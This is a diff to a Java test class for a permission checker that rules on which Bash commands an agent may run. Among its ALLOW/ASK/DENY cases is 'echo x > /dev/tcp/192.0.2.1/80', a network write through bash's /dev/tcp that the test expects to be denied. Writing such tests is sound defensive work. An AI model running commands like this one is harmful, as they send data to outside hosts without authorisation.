@@ -34,6 +34,9 @@ class UnaskedTest {
     private static final String PROJECT = "/home/dev/project";
     private static final Judge JUDGE = Judge.standard();
 
+    /** A repository in which git runs something by itself. */
+    private static final String[] HOOKED = {PROJECT + "/.git/HEAD", PROJECT + "/.git/hooks/pre-commit"};
+
     /** A disk with these files, given by their absolute paths. */
     private record Disk(List<String> files) implements FileView {
         @Override
@@ -111,8 +114,8 @@ class UnaskedTest {
                         row[1],
                         () -> assertEquals(
                                 row[0],
-                                shell(row[1], Mode.ALWAYS_ASK).text() + " "
-                                        + shell(row[1], Mode.WRITE).text())));
+                                shell(row[1], Mode.ALWAYS_ASK, HOOKED).text() + " "
+                                        + shell(row[1], Mode.WRITE, HOOKED).text())));
     }
 
     @Test
@@ -172,7 +175,7 @@ class UnaskedTest {
         assertEquals(Action.ALLOW, decide("Bash", command("git fetch origin main"), git));
         assertEquals(Action.ASK, decide("Bash", command("git fetch https://example.com/x"), git));
         assertEquals(Action.ASK, decide("Bash", command("git fetch -f origin main"), git));
-        assertEquals(Action.ASK, decide("Bash", command("git remote show origin"), git));
+        assertEquals(Action.ALLOW, decide("Bash", command("git remote show origin"), git));
         assertEquals(Action.ASK, decide("Bash", command("git push"), git));
     }
 
@@ -188,7 +191,7 @@ class UnaskedTest {
         assertEquals(Action.DENY, decide("Bash", command("gh pr view 12"), denied));
         assertEquals(Action.DENY, decide("Bash", command("git push"), denied));
         assertEquals(Action.DENY, decide("Bash", command("ls && /usr/bin/git fetch"), denied));
-        assertEquals(Action.ASK, decide("Bash", command("git commit -m x"), denied));
+        assertEquals(Action.ASK, decide("Bash", command("git commit -m x"), denied, HOOKED));
         assertEquals(Action.ASK, decide("Bash", command("frobnicate"), denied));
         assertEquals(Action.ALLOW, decide("Bash", command("git status"), denied));
         assertEquals(Action.DENY, decide("Bash", command("echo x > /dev/tcp/192.0.2.1/80"), denied));
